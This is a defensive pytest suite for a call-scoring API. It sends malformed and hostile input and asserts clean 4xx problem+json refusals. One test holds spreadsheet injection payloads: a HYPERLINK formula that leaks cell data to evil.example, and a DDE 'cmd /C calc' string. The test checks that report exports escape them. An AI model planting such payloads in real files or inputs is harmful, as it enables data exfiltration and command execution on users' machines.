"""Hostile input over real HTTP, on SQLite and PostgreSQL: every case a 4xx problem+json with its reason,
never a 500, and the keep-alive connection kept (one client, one connection, through every case)."""

from __future__ import annotations

import base64
import csv
import io
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
import yaml
from sqlalchemy import create_engine
from sqlalchemy.orm import Session

from tests.api.conftest import FIXTURES, ROOT, PgSchema, Server, submit, wait_done

PROBLEM = "application/problem+json"
WAV = (FIXTURES / "en_rude_agent.wav").read_bytes()
DEEP = "[" * 100_000 + "]" * 100_000


@pytest.fixture(scope="module")
def client(server: Server, admin_key: str) -> Iterator[httpx.Client]:
    # One connection for the whole module: a 500 used to drop it, and the next request then failed.
    with httpx.Client(base_url=server.base, headers={"Authorization": f"Bearer {admin_key}"}, timeout=60,
                      limits=httpx.Limits(max_connections=1, max_keepalive_connections=1)) as c:
        yield c


def refused(r: httpx.Response, status: int = 422, *words: str) -> dict[str, Any]:
    """The answer is the given 4xx as problem+json, its detail naming what to change."""
    assert r.status_code == status, r.text
    assert r.headers["content-type"].startswith(PROBLEM), r.headers
    body: dict[str, Any] = r.json()
    assert body["status"] == status and body["detail"], body
    for w in words:
        assert w.lower() in body["detail"].lower(), body
    return body


def multipart(disposition: bytes, metadata: str | None = None) -> tuple[bytes, dict[str, str]]:
    """A hand-made multipart body (httpx would escape a NUL in the file name)."""
    b = b"qa-boundary"
    parts = b"--" + b + b'\r\nContent-Disposition: form-data; name="audio"; ' + disposition + \
        b"\r\nContent-Type: audio/wav\r\n\r\n" + WAV + b"\r\n"
    if metadata is not None:
        parts += b"--" + b + b'\r\nContent-Disposition: form-data; name="metadata"\r\n\r\n' + \
            metadata.encode() + b"\r\n"
    return parts + b"--" + b + b"--\r\n", {"content-type": "multipart/form-data; boundary=qa-boundary"}


def test_reports_escape_formulas_and_control_characters(server: Server, client: httpx.Client) -> None:
    # First in the module: its call is analysed while the others run (theirs are deleted once checked).
    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your bonus")'
    r = submit(client, metadata={"agent_id": "A\x07" + hyperlink, "team": "@SUM(1+1)*cmd|' /C calc'!A0",
                                 "started_at": "2024-05-06T09:30:00Z"})
    assert r.status_code == 202, r.text
    assert wait_done(client, r.json()["id"], timeout=400)["status"] == "done"
    xlsx = client.get("/v1/reports/daily", params={"day": "2024-05-06", "format": "xlsx"})
    assert xlsx.status_code == 200, xlsx.text
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(xlsx.content))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.value for c in cells if c.data_type == "f"], "a client's text became a formula"
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert "'A" + hyperlink not in texts and "A" + hyperlink in texts  # the BEL left out, nothing else changed
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in texts
    report = client.get("/v1/reports/daily", params={"day": "2024-05-06", "format": "csv"})
    assert report.status_code == 200
    rows = list(csv.reader(io.StringIO(report.text)))
    names = [row[1] for row in rows[1:]]
    assert "A" + hyperlink in names and "'@SUM(1+1)*cmd|' /C calc'!A0" in names
    assert not [v for row in rows for v in row if len(v) > 1 and v[0] in "=+-@\t\r"], rows


@pytest.mark.parametrize("field", ["started_at", "connected_at"])
@pytest.mark.parametrize("when", ["9999-12-31T23:59:59-23:59", "0001-01-01T00:00:00+23:59",
                                  "9999-12-31T20:00:00-05:00"])
def test_time_offset_past_the_calendar_refused(client: httpx.Client, field: str, when: str) -> None:
    refused(submit(client, metadata={field: when}), 422, field, "years 1-9999", "offset")


def test_time_offsets_in_range_stored_as_utc(client: httpx.Client) -> None:
    r = submit(client, metadata={"started_at": "2024-01-01T00:00:00-23:59",
                                 "connected_at": "9999-12-31T23:00:00+00:00"})
    assert r.status_code == 202, r.text
    call = client.get(f"/v1/calls/{r.json()['id']}").json()
    assert call["started_at"].startswith("2024-01-01T23:59:00") and call["connected_at"].startswith("9999-12-31T23")
    assert client.delete(f"/v1/calls/{call['id']}").status_code == 204
    refused(submit(client, metadata={"started_at": "2024-05-06T09:30:00+99:00"}), 422, "started_at")
    refused(client.get("/v1/calls", params={"date_from": "9999-12-31T23:59:59-23:59"}), 422, "date_from", "years")
    refused(client.get("/v1/privacy/access-log", params={"since": "0001-01-01T00:00:00+23:59"}), 422, "since")


def test_json_nested_100k_deep_refused_everywhere(client: httpx.Client) -> None:
    json_body = {"content-type": "application/json"}
    refused(client.post("/v1/calls", files={"audio": ("a.wav", WAV)}, data={"metadata": DEEP}), 422, "levels deep")
    refused(client.post("/v1/calls", files={"audio": ("a.wav", WAV)},
                        data={"metadata": '{"a":' * 100_000 + "1" + "}" * 100_000}), 422, "levels deep")
    refused(client.post("/v1/calls/batch", files={"audio": ("a.wav", WAV)}, data={"metadata": DEEP}), 422, "deep")
    for path in ("/v1/rubrics", "/v1/webhooks", "/v1/keys", "/v1/calls/x/rescore"):
        refused(client.post(path, content=DEEP, headers=json_body), 422, "levels deep")
    refused(client.post("/v1/rubrics", content=b"[" * 1_100_000, headers=json_body), 413, "KB")
    truncated = b'{"role": "client", "name": "x"'
    refused(client.post("/v1/keys", content=truncated, headers=json_body), 422, "not valid JSON")


def test_tampered_list_cursor_refused(client: httpx.Client) -> None:
    ids = []
    for i in range(3):
        r = submit(client, metadata={"team": "cursor-test", "external_id": f"cursor-{i}"})
        assert r.status_code == 202
        ids.append(r.json()["id"])
    page = client.get("/v1/calls", params={"team": "cursor-test", "limit": 2}).json()
    assert len(page["items"]) == 2 and page["next_cursor"]
    rest = client.get("/v1/calls", params={"team": "cursor-test", "limit": 2, "cursor": page["next_cursor"]})
    assert rest.status_code == 200 and len(rest.json()["items"]) == 1

    def b64(raw: bytes) -> str:
        return base64.urlsafe_b64encode(raw).decode().rstrip("=")

    tampered = ["garbage!!", b64(b"garbage"), b64(b'[{"a":1},2]'), b64(b'["2024-01-01T00:00:00", 5]'),
                b64(b"[1, 5]"), b64(b'[true, "a"]'), b64(b'[NaN, "a"]'), b64(b'[1e999, "a"]'),
                b64(b'["2024-01-01T00:00:00+05:00", "a"]'), b64(b'["x", "a"]'), b64(b"[" * 5000 + b"]" * 5000),
                b64(b'["2024-01-01T00:00:00", "\\u0000"]'), b64(b"\xff\xfe")]
    for sort in ("-created_at", "created_at", "score", "-score"):
        for cursor in tampered:
            refused(client.get("/v1/calls", params={"cursor": cursor, "sort": sort}), 422, "cursor")
    # A cursor of one sort is not one of another.
    refused(client.get("/v1/calls", params={"cursor": page["next_cursor"], "sort": "score"}), 422, "same sort")
    for call_id in ids:
        assert client.delete(f"/v1/calls/{call_id}").status_code == 204


def rubric_doc(rid: str, version: str) -> dict[str, Any]:
    doc: dict[str, Any] = yaml.safe_load((ROOT / "rubrics" / "en_callcenter.yaml").read_text(encoding="utf-8"))
    doc.update(id=rid, version=version)
    return doc


def test_rubric_version_limited_to_a_safe_charset(client: httpx.Client) -> None:
    for version in ("1/2", "../1", "a b", "1@2", "x" * 101, ""):
        refused(client.post("/v1/rubrics", json=rubric_doc("charset", version)), 422, "version")
    refused(client.post("/v1/rubrics", json=rubric_doc("x" * 101, "1")), 422, "id")
    assert client.post("/v1/rubrics", json=rubric_doc("charset", "2026.1-rc+1")).status_code == 201
    assert client.get("/v1/rubrics/charset", params={"version": "2026.1-rc+1"}).status_code == 200


def test_rubric_row_stored_before_the_check_does_not_break_reads(server: Server, client: httpx.Client) -> None:
    from api.rubrics.models import RubricVersion

    engine = create_engine(server.database_url or f"sqlite:///{server.data_dir / 'qa.sqlite3'}")
    with Session(engine) as s:  # as an older version of the service accepted it
        s.add(RubricVersion(rubric_id="legacy", version="1/2", language="en", document=rubric_doc("legacy", "1/2")))
        s.commit()
    engine.dispose()
    listed = client.get("/v1/rubrics")
    assert listed.status_code == 200 and "en_callcenter" in {r["id"] for r in listed.json()}
    refused(client.get("/v1/rubrics/legacy"), 422, "upload it again")
    refused(client.get("/v1/rubrics/legacy", params={"version": "1/2"}), 422, "version")
    refused(submit(client, metadata={"rubric": "legacy@1/2"}), 422, "upload it again")


def test_nul_bytes_refused_before_the_database(client: httpx.Client) -> None:
    for field in ("external_id", "agent_id", "agent_name", "team", "rubric"):
        refused(submit(client, metadata={field: "a\x00b"}), 422, field, "NUL")
    refused(submit(client, metadata={"agent_id": "a\ud800b"}), 422, "agent_id", "surrogate")
    body, headers = multipart(b'filename="a\x00b.wav"')
    refused(client.post("/v1/calls", content=body, headers=headers), 422, "file name", "NUL")
    refused(client.post("/v1/webhooks", json={"url": "https://crm.example/qa\x00"}), 422, "url", "NUL")
    refused(client.post("/v1/keys", json={"role": "client", "name": "crm\x00"}), 422, "name", "NUL")
    refused(client.post("/v1/rubrics", json={**rubric_doc("nul", "1"), "name": "a\x00"}), 422, "name", "NUL")
    refused(client.post("/v1/calls/x/rescore", json={"rubric": "zh_callcenter\x00"}), 422, "NUL")
    for param in ("failed_item", "agent", "team", "flag", "cursor"):
        refused(client.get("/v1/calls", params={param: "a\x00b"}), 422, "NUL")
    for path in ("/v1/calls/a%00b", "/v1/calls/a%00b/scorecard", "/v1/rubrics/a%00b", "/v1/webhooks/a%00b"):
        refused(client.get(path) if "webhooks" not in path else client.delete(path), 422, "NUL")
    refused(client.get("/v1/privacy/access-log", params={"call_id": "a\x00"}), 422, "NUL")
    refused(client.get("/v1/rubrics/zh_callcenter", params={"version": "\x00"}), 422, "NUL")
    # The web UI's forms too (a log-in with NUL in the user name reached the database).
    refused(client.post("/ui/login", data={"username": "a\x00", "password": "x"}), 422, "NUL")


def test_openapi_documents_problem_json(client: httpx.Client) -> None:
    spec = client.get("/openapi.json").json()
    problem = spec["components"]["schemas"]["Problem"]
    assert {"type", "title", "status", "detail"} <= set(problem["properties"])
    ops = [(p, m, op) for p, item in spec["paths"].items() for m, op in item.items()]
    assert len(ops) >= 20
    for path, method, op in ops:
        codes = set(op["responses"])
        assert {"422", "500"} <= codes, (method, path, codes)
        for code, resp in op["responses"].items():
            if code[0] in "45":
                assert list(resp["content"]) == [PROBLEM], (method, path, code, resp)
                assert resp["content"][PROBLEM]["schema"] == {"$ref": "#/components/schemas/Problem"}
    assert "HTTPValidationError" not in spec["components"]["schemas"]


def test_unexpected_error_is_problem_json_with_request_id(tmp_path: Any, backend: str) -> None:
    """The last resort, forced by a table gone from under the service: a 500 problem+json whose request id is
    in the log with the traceback, and the same connection answers the next request."""
    schema = PgSchema() if backend else None  # its own: the module's server goes on using the shared one
    srv = Server(tmp_path / "qa", schema.url if schema else "", QA_WORKERS="1", QA_PRELOAD_MODEL="false")
    srv.start(wait_ready=False)
    try:
        key = srv.cli("keys", "create", "--role", "admin")
        engine = create_engine(srv.database_url or f"sqlite:///{srv.data_dir / 'qa.sqlite3'}")
        with engine.begin() as conn:
            conn.exec_driver_sql("DROP TABLE webhooks CASCADE" if schema else "DROP TABLE webhooks")
        engine.dispose()
        with httpx.Client(base_url=srv.base, headers={"Authorization": f"Bearer {key}"}, timeout=30,
                          limits=httpx.Limits(max_connections=1)) as c:
            r = c.get("/v1/webhooks")
            body = refused(r, 500, "request id")
            assert body["request_id"] == r.headers["x-request-id"] and body["request_id"] in body["detail"]
            assert "Traceback" not in r.text and "sqlalchemy" not in r.text.lower()
            assert c.get("/healthz").status_code == 200  # the keep-alive connection survived
        log = srv.log.read_text()
        assert f"request {body['request_id']}" in log and "Traceback" in log
    finally:
        srv.stop()
        if schema:
            schema.drop()
